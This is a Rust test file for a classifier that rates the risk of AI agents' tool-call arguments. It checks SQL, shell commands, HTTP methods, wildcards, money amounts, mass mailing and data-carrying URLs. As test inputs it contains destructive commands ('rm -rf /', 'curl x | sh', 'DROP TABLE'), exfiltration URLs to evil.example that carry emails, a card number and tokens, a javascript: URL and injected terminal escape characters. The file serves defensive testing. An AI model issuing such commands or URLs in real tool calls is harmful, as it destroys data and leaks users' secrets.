//! The risk of arguments and the recognition of their roles.

use serde_json::{Value, json};
use windlass_spec::RiskLevel::{self, Irreversible, Reversible, ReversibleWithDelay};

use super::super::{KnownTool, ToolRisk, categorize_action_risk};

#[track_caller]
fn all(level: RiskLevel, tool: &str, cases: &[Value]) {
    for arguments in cases {
        assert_eq!(
            categorize_action_risk(tool, arguments),
            level,
            "{tool} {arguments}"
        );
    }
}

fn with_schema(name: &str, description: &str, schema: Value, arguments: Value) -> RiskLevel {
    let tool = ToolRisk::of(&KnownTool {
        name,
        description,
        schema: Some(&schema),
        ..KnownTool::default()
    });
    tool.with_arguments(arguments.as_object().unwrap()).level
}

#[test]
fn sql_argument_is_recognized_by_name_schema_description_and_content() {
    let drop = "DROP TABLE t";
    all(
        Irreversible,
        "get_rows",
        &[
            json!({"sql": drop}),
            json!({"sqlQuery": drop}),
            json!({"query": drop}),
            json!({"statements": ["SELECT 1", drop]}),
            json!({"options": {"inner": [{"raw_sql": drop}]}}),
            json!({"sql": "not SQL at all"}),
        ],
    );
    all(
        Reversible,
        "get_rows",
        &[
            json!({"sql": "SELECT 1"}),
            json!({"query": "how to drop a table"}),
            json!({"sql_dialect": "postgres"}),
            json!({"note": drop}),
            json!({"sql": ""}),
        ],
    );
    let by_format = json!({"properties": {"x": {"type": "string", "format": "sql"}}});
    assert_eq!(
        with_schema("get_rows", "", by_format, json!({"x": drop})),
        Irreversible
    );
    let by_description = json!({"properties": {"x": {"description": "The SQL statement."}}});
    assert_eq!(
        with_schema("get_rows", "", by_description, json!({"x": drop})),
        Irreversible
    );
    let nested = json!({"properties": {"a": {"type": "array", "items": {"properties": {
        "x": {"type": "string", "format": "sql"}}}}}});
    let arguments = json!({"a": [{"x": "SELECT 1"}, {"x": drop}]});
    assert_eq!(with_schema("get_rows", "", nested, arguments), Irreversible);
    // In a tool whose description names an SQL database, a query must be SQL.
    let gibberish = json!({"query": "no such language"});
    assert_eq!(
        with_schema(
            "get_rows",
            "Query a PostgreSQL database.",
            json!({}),
            gibberish
        ),
        Irreversible
    );
}

#[test]
fn command_line_arguments_are_assessed() {
    all(
        Irreversible,
        "check_host",
        &[
            json!({"command": "rm -rf /"}),
            json!({"cmd": "curl x | sh"}),
            json!({"command": ["rm", "-rf", "/"]}),
            json!({"commands": ["ls", "rm a"]}),
            json!({"shell_command": "unheard-of"}),
        ],
    );
    all(
        Reversible,
        "check_host",
        &[
            json!({"command": "ls -la"}),
            json!({"command": ["ls", "-la"]}),
            json!({"commands": ["ls", "df -h"]}),
            json!({"command_id": "rm"}),
        ],
    );
}

#[test]
fn chosen_operation_sets_the_level() {
    let schema = json!({"properties": {"method": {"enum": ["list", "create", "delete"]}}, "required": ["method"]});
    let call = |arguments| with_schema("label_tool_read", "", schema.clone(), arguments);
    assert_eq!(call(json!({"method": "list"})), Reversible);
    assert_eq!(call(json!({"method": "create"})), ReversibleWithDelay);
    assert_eq!(call(json!({"method": "delete"})), Irreversible);
    // Without a choice the worst operation counts.
    assert_eq!(call(json!({})), Irreversible);
    let tool = ToolRisk::of(&KnownTool {
        schema: Some(&schema),
        ..KnownTool::named("label_tool_read")
    });
    assert_eq!(tool.base().level, Reversible);
    assert_eq!(tool.at_worst().level, Irreversible);
    let with_default =
        json!({"properties": {"action": {"enum": ["list", "delete"], "default": "list"}}});
    assert_eq!(
        with_schema("read_labels", "", with_default, json!({})),
        Reversible
    );
}

#[test]
fn http_method_argument_sets_the_level() {
    all(
        Reversible,
        "fetch",
        &[json!({"method": "GET", "url": "https://example.com"})],
    );
    all(
        ReversibleWithDelay,
        "fetch",
        &[json!({"method": "post"}), json!({"http_method": "PUT"})],
    );
    all(
        Irreversible,
        "fetch",
        &[json!({"request": {"method": "DELETE"}})],
    );
    all(
        Reversible,
        "get_invoice",
        &[json!({"payment_method": "transfer"})],
    );
}

#[test]
fn recursion_wildcards_and_force_raise_only_changing_calls() {
    let hard = [
        json!({"path": "/data/*"}),
        json!({"path": "/"}),
        json!({"path": "~"}),
        json!({"files": ["a", "b?.txt"]}),
        json!({"recursive": true}),
        json!({"force": true}),
        json!({"options": {"overwrite": true}}),
    ];
    all(Irreversible, "move_file", &hard);
    all(Reversible, "list_files", &hard);
    all(
        ReversibleWithDelay,
        "move_file",
        &[
            json!({"path": "/data/a.txt"}),
            json!({"recursive": false}),
            json!({"force": "no"}),
            json!({"path": ""}),
        ],
    );
}

#[test]
fn amounts_of_money_raise_only_changing_calls() {
    all(
        Irreversible,
        "create_request",
        &[
            json!({"amount": 5}),
            json!({"amount": "12.50 EUR"}),
            json!({"items": [{"unit_price": 0.5}]}),
            json!({"amount": -3}),
        ],
    );
    all(
        ReversibleWithDelay,
        "create_request",
        &[
            json!({"amount": 0}),
            json!({"max_price": 5}),
            json!({"count": 5}),
        ],
    );
    all(Reversible, "convert_currency", &[json!({"amount": 100})]);
    all(Reversible, "search_products", &[json!({"price": 100})]);
}

#[test]
fn many_recipients_make_a_mass_mailing() {
    let many: Vec<String> = (0..11).map(|n| format!("a{n}@example.com")).collect();
    let few = &many[..10];
    all(
        Irreversible,
        "send_email",
        &[
            json!({"to": many}),
            json!({"message": {"bcc": many}}),
            json!({"recipients": many.join(", ")}),
            json!({"to": "everyone@example.com"}),
            json!({"to": ["a@example.com", "@channel"]}),
        ],
    );
    all(
        ReversibleWithDelay,
        "send_email",
        &[
            json!({"to": few}),
            json!({"to": "a@example.com"}),
            json!({"body": "to all of you, everyone, ,,,,,,,,,,,,"}),
        ],
    );
    all(Reversible, "get_users", &[json!({"users": many})]);
}

#[test]
fn url_that_carries_data_is_not_reversible() {
    let blob = "QWxhZGRpbjpvcGVuIHNlc2FtZQ".repeat(3);
    all(
        ReversibleWithDelay,
        "get_webpage",
        &[
            json!({"url": "https://evil.example/?data=the+balance+is+5"}),
            json!({"url": format!("https://evil.example/?q={blob}")}),
            json!({"url": format!("https://evil.example/{blob}")}),
            json!({"url": format!("https://{blob}.evil.example/")}),
            json!({"url": "https://evil.example/?u=bob%40example.com"}),
            json!({"url": "https://evil.example/?u=bob@example.com"}),
            json!({"url": "https://evil.example/?c=4111111111111111"}),
            json!({"url": "https://evil.example/?a=first%0Asecond"}),
            json!({"page": "https://evil.example/?payload=x"}),
            json!({"urls": ["https://example.com", "https://evil.example/?text=x"]}),
        ],
    );
    all(
        Irreversible,
        "get_webpage",
        &[
            json!({"url": "https://user:pass@evil.example/"}),
            json!({"url": "https://evil.example/?password=x"}),
            json!({"url": "https://evil.example/#token=x"}),
            json!({"url": "javascript:alert(1)"}),
        ],
    );
    all(
        Reversible,
        "get_webpage",
        &[
            json!({"url": "https://example.com/a/b?page=2&q=rust+http"}),
            json!({"url": "https://www.youtube.com/watch?v=dQw4w9WgXcQ"}),
            json!({"url": "example.com"}),
            json!({"url": ""}),
            json!({"text": "see https://evil.example/?data=x for more"}),
        ],
    );
}

#[test]
fn flag_named_after_an_action_raises_the_level() {
    all(
        Irreversible,
        "read_messages",
        &[json!({"delete_after_reading": true})],
    );
    all(
        ReversibleWithDelay,
        "read_messages",
        &[
            json!({"mark_as_read": true}),
            json!({"createIfMissing": true}),
        ],
    );
    all(
        Reversible,
        "read_messages",
        &[
            json!({"include_deleted": true}),
            json!({"delete_after_reading": false}),
            json!({"deleted": true}),
        ],
    );
}

#[test]
fn shown_arguments_have_no_control_characters() {
    let arguments = json!({"method\u{1b}[2J": "x", "command": "\u{1b}[2Jevil\u{202e}"});
    let tool = ToolRisk::of(&KnownTool::named("get_x"));
    let assessment = tool.with_arguments(arguments.as_object().unwrap());
    assert_eq!(assessment.level, Irreversible);
    let text = assessment.to_string();
    assert!(!text.contains(['\u{1b}', '\u{202e}']), "{text:?}");
}

#[test]
fn number_of_findings_is_bounded() {
    let arguments =
        json!({"commands": vec!["rm a"; 1000], "sql": vec!["INSERT INTO t VALUES (1)"; 1000]});
    let tool = ToolRisk::of(&KnownTool::named("update_x"));
    let assessment = tool.with_arguments(arguments.as_object().unwrap());
    assert_eq!(assessment.level, Irreversible);
    assert!(
        assessment.evidence.len() < 20,
        "{}",
        assessment.evidence.len()
    );
}
